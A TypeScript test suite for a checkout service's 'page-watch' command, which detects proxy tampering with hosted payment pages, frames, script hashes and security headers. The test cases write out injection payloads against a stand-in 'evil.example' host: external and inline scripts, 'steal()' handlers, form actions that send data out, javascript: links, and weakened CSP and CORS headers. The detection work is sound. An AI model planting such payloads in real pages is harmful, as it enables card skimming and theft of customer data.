// tier: night
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openPageWatch } from "../../src/service/http/page-release.ts";
import type { Difference } from "../../src/checkout/page-watch/difference.ts";
import type { Expectation } from "../../src/checkout/page-watch/expectation.ts";
import { watchPages } from "../../src/checkout/page-watch/watch-pages.ts";
import { runCommand } from "../support/command-line.ts";
import { startFront, type Passing } from "../support/front.ts";
import { freePort } from "../support/free-port.ts";
import { startTestService, type TestService } from "../support/service.ts";

type Change = (answer: Passing) => void;

const keep: Change = () => {};

/** A proxy in front of the service modifies the answers that browsers receive. */
describe("vezne page-watch", () => {
  const folder = mkdtempSync(join(tmpdir(), "vezne-watch-"));
  let shop: TestService;
  let front: { close(): Promise<void> };
  let base = "";
  let change: Change = keep;
  beforeAll(async () => {
    const port = await freePort();
    base = `http://127.0.0.1:${port}`;
    shop = await startTestService({ environment: { VEZNE_PUBLIC_URL: base } });
    front = await startFront({ port, target: () => shop.url, rewrite: (one) => change(one) });
  });
  afterAll(async () => {
    await front.close();
    await shop.close();
    rmSync(folder, { recursive: true, force: true });
  });

  /** Returns the differences that the command finds while the proxy modifies answers. */
  const differences = async (
    made: Change,
    expectation?: Expectation,
  ): Promise<readonly Difference[]> => {
    const [success_url, fail_url] = [`${base}/docs`, `${base}/docs`];
    const sessionId = await shop.api.session({ success_url, fail_url });
    change = made;
    try {
      const watch = { base, mode: "test", sessionId, expectation } as const;
      return (await watchPages(await openPageWatch(), watch)).differences;
    } finally {
      change = keep;
    }
  };

  const run = async (args: readonly string[], key = shop.merchant.testApiKey) => {
    const environment = { VEZNE_URL: base, VEZNE_API_KEY: key };
    const end = await runCommand(shop.database, ["page-watch", "--json", ...args], environment);
    return { ...end, document: JSON.parse(end.stdout) as Readonly<Record<string, unknown>> };
  };

  const on =
    (path: string, from: string | RegExp, to: string): Change =>
    (answer) => {
      if (answer.path.startsWith(path)) answer.body = answer.body.replace(from, to);
    };

  it("finds nothing where the pages are those of the release, in live mode too", async () => {
    const { code, document, stdout } = await run([]);
    expect(document).toMatchObject({
      url: base,
      unchanged: true,
      differences: [],
      links: [],
      framed_by: ["'self'", base],
    });
    expect(code).toBe(0);
    const scripts = document["scripts"] as { name: string; reason: string }[];
    expect(scripts.map(({ name }) => name)).toEqual(["checkout", "sandbox", "frame", "widget"]);
    expect(scripts.every(({ reason }) => reason.length > 40)).toBe(true);
    expect(stdout).not.toContain("ses_");
    const live = await run([], shop.merchant.liveApiKey);
    expect([live.code, live.document["differences"]]).toEqual([0, []]);
  });

  it("accepts a merchant's colours as a style of the release", async () => {
    const { merchant, testApiKey } = await shop.createMerchant("Kuzey Kahve");
    const look = ["--merchant", merchant.merchantId, "--accent", "#8a1c4a"];
    await runCommand(shop.database, ["merchants", "brand", "set", ...look]);
    const same = await run([], testApiKey);
    expect([same.code, same.document["differences"]]).toEqual([0, []]);
    change = on("/brand/style/", /$/, "a{}");
    const changed = await run([], testApiKey);
    change = keep;
    expect([changed.code, changed.document["differences"]]).toEqual([
      1,
      [expect.objectContaining({ kind: "style" })],
    ]);
  });

  it("names a script with one changed byte", async () => {
    expect(await differences(on("/assets/sandbox-", /;/, " "))).toEqual([
      {
        kind: "script",
        where: expect.stringMatching(/^assets\/sandbox-.*\.js$/) as string,
        expected: expect.stringMatching(/^sha384-/) as string,
        found: expect.stringMatching(/^sha384-/) as string,
      },
      expect.objectContaining({ kind: "style" }),
    ]);
  });

  it("checks the scripts of live pages from a test page as well, and the widget", async () => {
    const live = await differences(on("/assets/checkout-", /$/, " "));
    expect(live.map(({ kind }) => kind)).toEqual(["script", "style"]);
    const widget = await differences(on("/widget.js", /$/, " "));
    expect(widget).toMatchObject([{ kind: "widget", where: "widget.js" }]);
  });

  const EVIL = "https://evil.example/";
  it.each([
    ["a script", "</head>", `<script src="${EVIL}"></script></head>`, "script", EVIL],
    [
      "a script of the same site",
      "</head>",
      '<script defer src="/assets/a.js"></script></head>',
      "script",
      "assets/a.js",
    ],
    ["an inline script", "</head>", "<script>steal()</script></head>", "page", "<script>"],
    ["an event handler", "<body", '<body onload="steal()"', "page", "<body onload>"],
    ["a frame", "</main>", `<iframe src="${EVIL}"></iframe></main>`, "page", "<iframe>"],
    ["an inline style", "</head>", "<style>x</style></head>", "page", "<style>"],
    ["a style attribute", "<body", '<body style="x"', "page", "<body style>"],
    ["a form", /action="[^"]*"/, `action="${EVIL}"`, "page", "<form action>"],
    ["a button", "<button", `<button formaction="${EVIL}"`, "page", "<button formaction>"],
    ["a picture", "</main>", `<img src="${EVIL}"/></main>`, "page", "<img src>"],
    ["a base address", "<head>", `<head><base href="${EVIL}"/>`, "page", "<base>"],
    ["a preload", "</head>", `<link rel="preload" href="${EVIL}"/></head>`, "page", "<link>"],
    ["a refresh", "<head>", '<head><meta http-equiv="refresh"/>', "page", "<meta http-equiv>"],
    ["a link that runs code", "</main>", '<a href="javascript:x">x</a></main>', "page", "link"],
    ["an entity", "</main>", '<a href="java&#115;cript:x">x</a></main>', "page", "markup"],
    ["a comment", "</head>", "<!--x--></head>", "page", "markup"],
    ["a value without quotes", "</main>", "<p class=x>x</p></main>", "page", "markup"],
    ["capital letters", "</head>", "<SCRIPT src=//evil.example></SCRIPT></head>", "page", "markup"],
    ["the same attribute twice", "<body", '<body class="a" class="b"', "page", "markup"],
    [
      "a script without integrity",
      / integrity="[^"]*"><\/script>/,
      "></script>",
      "script",
      "integrity of",
    ],
    ["a script left out", /<script defer.*?<\/script>/, "", "script", "assets/sandbox-"],
  ])("names the page's modification by a proxy: %s", async (_, from, to, kind, where) => {
    const found = await differences(on("/checkout?", from, to));
    expect(found).toMatchObject([{ kind }]);
    expect(found[0]?.where).toContain(`hosted page, ${where}`);
  });

  it.each([
    ["content-security-policy", "default-src 'none'; script-src 'self' https://evil.example"],
    ["content-security-policy", undefined],
    ["cross-origin-opener-policy", "unsafe-none"],
    ["x-frame-options", "SAMEORIGIN"],
    ["referrer-policy", "unsafe-url"],
    ["x-content-type-options", undefined],
    ["cache-control", "public, max-age=60"],
    ["set-cookie", "tracker=1"],
    ["access-control-allow-origin", "*"],
    ["link", "<https://evil.example/a.js>; rel=preload"],
  ])("names a header that a proxy changed: %s, to %s", async (name, value) => {
    const found = await differences(({ path, headers }) => {
      if (!path.startsWith("/checkout?")) return;
      delete headers[name];
      if (value !== undefined) headers[name] = value;
    });
    expect(found).toMatchObject([{ kind: "header", where: `hosted page, ${name}` }]);
  });

  it("checks the page in a frame as well", async () => {
    const script = `<script src="${EVIL}"></script></head>`;
    expect(await differences(on("/checkout/frame?", "</head>", script))).toMatchObject([
      { kind: "script", where: `frame page, ${EVIL}` },
    ]);
  });

  it("compares with a file from another machine, including the sites that pages link to", async () => {
    const file = join(folder, "expected.json");
    expect((await run(["--save", file])).code).toBe(0);
    expect((await run(["--expect", file])).code).toBe(0);
    const saved = JSON.parse(readFileSync(file, "utf8")) as Expectation;
    const link = on("/checkout?", "</main>", '<a href="https://terms.example/x">x</a></main>');
    expect(await differences(link, saved)).toMatchObject([
      { where: "hosted page, links", expected: "", found: "https://terms.example" },
    ]);
    // A release cannot know the sites that a merchant's page links to.
    expect(await differences(link)).toEqual([]);
    const names = Object.keys(saved.files);
    const files = Object.fromEntries(names.map((name) => [name, "sha384-another"]));
    writeFileSync(file, JSON.stringify({ ...saved, files }));
    const other = await run(["--expect", file]);
    expect(other.code).toBe(1);
    const reported = JSON.stringify(other.document["differences"]);
    expect(names.filter((name) => !reported.includes(name))).toEqual([]);
  });

  it("reports its own failures, each with an exit code", async () => {
    const unreachable = await run(["--url", "http://127.0.0.1:1"]);
    expect([unreachable.code, unreachable.stderr]).toEqual([
      3,
      expect.stringContaining("can't be fetched from http://127.0.0.1:1"),
    ]);
    expect((await run(["--url", "pay.example"])).code).toBe(2);
    const wrong = join(folder, "wrong.json");
    writeFileSync(wrong, "{}");
    expect((await run(["--expect", wrong])).code).toBe(1);
  });
});
